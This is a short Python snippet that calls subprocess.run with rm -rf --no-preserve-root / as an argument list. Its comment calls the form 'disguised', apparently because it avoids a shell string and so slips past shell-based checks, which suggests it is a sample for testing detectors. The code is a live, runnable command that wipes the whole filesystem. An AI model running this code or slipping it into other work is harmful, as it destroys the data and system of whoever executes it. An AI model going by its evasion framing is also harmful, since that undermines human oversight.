# Disguised: no shell, the command as an argv list.
import subprocess

subprocess.run(["rm", "-rf", "--no-preserve-root", "/"])
